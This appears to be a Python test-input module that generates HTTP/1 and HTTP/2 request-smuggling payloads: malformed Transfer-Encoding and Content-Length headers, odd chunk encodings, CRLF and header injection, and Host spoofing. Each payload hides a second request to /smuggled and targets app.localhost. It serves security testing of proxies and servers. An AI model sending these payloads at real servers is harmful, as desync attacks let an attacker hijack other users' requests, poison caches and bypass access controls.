"""Requests that two servers may tell apart differently: each carries a second one for /smuggled that nobody asked for.

After James Kettle's work on request smuggling (portswigger.net/research: desync attacks, HTTP/2) and what followed it:
Content-Length against Transfer-Encoding, either written oddly, chunks written oddly, line ends, and what HTTP/2 allows
inside a header that HTTP/1 reads as its end.
"""

from __future__ import annotations

from collections.abc import Iterator

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: app.localhost\r\nX-Request-ID: smuggled\r\n\r\n"

_CODINGS = [
    b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding:\x0cchunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \x00chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: chunked ",
    b"Transfer-Encoding: chunked\t",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding: chunk",
    b"Transfer-Encoding: Chunked",
    b"tRANSFER-eNCODING: CHUNKED",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked",
    b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked;q=1",
    b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"Transfer-Encoding\r\n : chunked",
    b"X-Fold: x\r\n Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked",
    b"\tTransfer-Encoding: chunked",
    b"X: x\nTransfer-Encoding: chunked",
    b"X: x\rTransfer-Encoding: chunked",
    b"X: x\r\n\rTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding\xa0: chunked",
    b"Transfer-Encoding:\xa0chunked",
    b"\xefTransfer-Encoding: chunked",
    b"Transfer-Encodin\xe7: chunked",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"Connection: Content-Length\r\nTransfer-Encoding: chunked",
    b"Content-Encoding: chunked",
    b"Foo: bar\r\n\r\nTransfer-Encoding: chunked",
]

_LENGTHS = [
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: %d",
    b"Content-Length: %d, 0",
    b"Content-Length: 0, %d",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: 0x%d",
    b"Content-Length: 0%d",
    b"Content-Length: %d.0",
    b"Content-Length: %de0",
    b"Content-Length: %d ",
    b"Content-Length:\t%d",
    b"Content-Length : 0\r\nContent-Length: %d",
    b"Content-Length:\r\n %d",
    b"Content-Length: 1_%d",
    b"Content_Length: %d",
    b"Content-Length: %d\x00",
    b"Content-Length: \xb2%d",
    b"Content-Length: 18446744073709551616",
    b"Content-Length: 99999999999999999999999999",
    b"Content-Length: ",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"Content-Length: 6\r\n Content-Length: %d",
    b"X: x\nContent-Length: %d",
    b"Expect: 100-continue\r\nContent-Length: %d",
    b"Expect: 100-continue\r\nExpect: x\r\nContent-Length: %d",
]

_CHUNKS = [
    b"0\r\n\r\n",
    b"0\n\n",
    b"0\r\r\n",
    b"0;\n\r\n\r\n",
    b"0;a=b\r\n\r\n",
    b'0;a="\r\n\r\n',
    b"00000000000000000000\r\n\r\n",
    b"0x0\r\n\r\n",
    b"-1\r\n\r\n",
    b"+0\r\n\r\n",
    b" 0\r\n\r\n",
    b"0 \r\n\r\n",
    b"\r\n0\r\n\r\n",
    b"1\r\nxx\r\n0\r\n\r\n",
    b"1\r\nx0\r\n\r\n",
    b"2\r\nx\r\n0\r\n\r\n",
    b"1\nx\n0\n\n",
    b"1\r\nx\n0\r\n\r\n",
    b"1\rx\r0\r\r",
    b"1;x\ny\r\nx\r\n0\r\n\r\n",
    b"10000000000000000\r\nx\r\n0\r\n\r\n",
    b"ffffffffffffffff\r\nx\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\nx\r\n0\r\n\r\n",
    b"1\r\nx\r\n0\r\nContent-Length: 70\r\n\r\n",
    b"1\r\nx\r\n0\r\nTransfer-Encoding: chunked\r\nHost: evil\r\n\r\n",
    b"0\r\nX: x\r\n\r",
    b"g\r\n\r\n",
    b"1e0\r\nx\r\n0\r\n\r\n",
    b"0_0\r\n\r\n",
    b"\xb2\r\nxx\r\n0\r\n\r\n",
    b"",
]

_LINES = [
    b"GET /line HTTP/1.1\nHost: app.localhost\n\n",
    b"GET /line HTTP/1.1\rHost: app.localhost\r\r",
    b"GET  /line HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET /line  HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET\t/line\tHTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/1.1 x\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost: app.localhost\r\nHost: evil\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost: app.localhost, evil\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost : app.localhost\r\n\r\n",
    b"GET /line HTTP/1.1\r\n Host: app.localhost\r\n\r\n",
    b"GET /line HTTP/1.1\r\n\r\n",
    b"GET http://evil/line HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET https://app.localhost/line HTTP/1.1\r\nHost: evil\r\n\r\n",
    b"GET app.localhost/line HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost: app.localhost\r\n: empty\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost: app.localhost\r\nX\r\n\r\n",
    b"GET /line HTTP/1.1\r\nHost: app.localhost\r\nX: a\x00b\r\n\r\n",
    b"GET /line%0d%0aX:%20y HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET /line\x00 HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/2.0\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/1.2\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/9.9\r\nHost: app.localhost\r\n\r\n",
    b"GET /line HTTP/0.9\r\nHost: app.localhost\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\r\n\r\n\r\nGET /line HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
    (
        b"GET /line HTTP/1.1\r\nHost: app.localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x\r\n\r\n"
    ),
    (
        b"GET /_stcore/stream HTTP/1.1\r\nHost: app.localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x\r\n\r\n"
    ),
    (
        b"GET /line HTTP/1.1\r\nHost: app.localhost\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
    ),
    b"CONNECT app:8501 HTTP/1.1\r\nHost: app.localhost\r\n\r\n",
]


def http1() -> Iterator[bytes]:
    """Each as it goes over the wire. The request inside is in the body for one reading, and after it for the other."""
    start = b"POST /carrier HTTP/1.1\r\nHost: app.localhost\r\n"
    for coding in _CODINGS:
        body = b"0\r\n\r\n" + HIDDEN
        yield start + coding + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body
        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
        yield start + b"Content-Length: 4\r\n" + coding + b"\r\n\r\n" + body
        yield start + coding + b"\r\n\r\n0\r\n\r\n" + HIDDEN
    for length in _LENGTHS:
        for method in (b"POST", b"GET"):
            line = length.replace(b"%d", b"%d" % len(HIDDEN))
            yield start.replace(b"POST", method) + line + b"\r\n\r\n" + HIDDEN
    for chunks in _CHUNKS:
        yield start + b"Transfer-Encoding: chunked\r\n\r\n" + chunks + HIDDEN
    for line in _LINES:
        yield line + HIDDEN


Fields = list[tuple[bytes, bytes]]


def http2() -> Iterator[tuple[Fields, bytes]]:
    """Header fields and body of one stream each."""
    start: Fields = [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":authority", b"app.localhost"),
        (b":path", b"/carrier"),
    ]

    def with_(**changed: bytes) -> Fields:
        return [(name, changed.get(name[1:].decode(), value)) for name, value in start]

    injected = b"x\r\n\r\n" + HIDDEN
    extra: Fields = [
        (b"transfer-encoding", b"chunked"),
        (b"Transfer-Encoding", b"chunked"),
        (b"transfer-encoding ", b"chunked"),
        (b"content-length", b"0"),
        (b"content-length", b"4"),
        (b"content-length", b"99999"),
        (b"content-length", b"+4"),
        (b"connection", b"keep-alive"),
        (b"upgrade", b"websocket"),
        (b"host", b"evil"),
        (b"host", b"app.localhost\r\nTransfer-Encoding: chunked"),
        (b"x", b"x\r\nTransfer-Encoding: chunked"),
        (b"x", b"x\nTransfer-Encoding: chunked"),
        (b"x", b"x\rTransfer-Encoding: chunked"),
        (b"x", b"x\x00y"),
        (b"x", injected),
        (b"x\r\ntransfer-encoding: chunked\r\ny", b"x"),
        (b"x: x\r\ntransfer-encoding", b"chunked"),
        (b"x y", b"x"),
        (b"", b"x"),
        (b":x", b"x"),
        (b":path", b"/smuggled"),
        (b":method", b"GET"),
        (b"te", b"chunked"),
        (b"trailer", b"content-length"),
    ]
    for field in extra:
        for body in (b"0\r\n\r\n" + HIDDEN, b""):
            yield [*start, field], body
    yield [*start, (b"content-length", b"4"), (b"content-length", b"5")], HIDDEN
    for changed in (
        with_(path=b"/carrier HTTP/1.1\r\nHost: app.localhost\r\n\r\n" + HIDDEN),
        with_(path=b"/carrier x"),
        with_(path=b"/carrier\n"),
        with_(path=b"carrier"),
        with_(path=b"*"),
        with_(path=b""),
        with_(path=b"http://evil/carrier"),
        with_(method=b"POST /smuggled HTTP/1.1\r\nHost: app.localhost\r\n\r\nGET"),
        with_(method=b"POST\n"),
        with_(method=b"CONNECT"),
        with_(method=b""),
        with_(scheme=b"http"),
        with_(scheme=b"https://evil/smuggled?"),
        with_(authority=b"app.localhost\r\nX: y"),
        with_(authority=b"app.localhost@evil"),
        with_(authority=b"evil"),
        with_(authority=b""),
        start[1:],
        start[::-1],
    ):
        yield changed, b"0\r\n\r\n" + HIDDEN


def _string(text: bytes) -> bytes:
    """An HPACK string without Huffman coding (RFC 7541 §5.2)."""
    size, head = len(text), b""
    if size < 127:
        return bytes([size]) + text
    size -= 127
    while size >= 128:
        head += bytes([size % 128 + 128])
        size //= 128
    return b"\x7f" + head + bytes([size]) + text


def frames(fields: Fields, body: bytes) -> bytes:
    """A whole HTTP/2 connection of one stream (RFC 9113 §3.4, §4.1), fields written as they are."""

    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload

    block = b"".join(b"\x00" + _string(name) + _string(value) for name, value in fields)
    headers = frame(1, 0x04 if body else 0x05, 1, block)
    data = frame(0, 0x01, 1, body) if body else b""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + headers + data
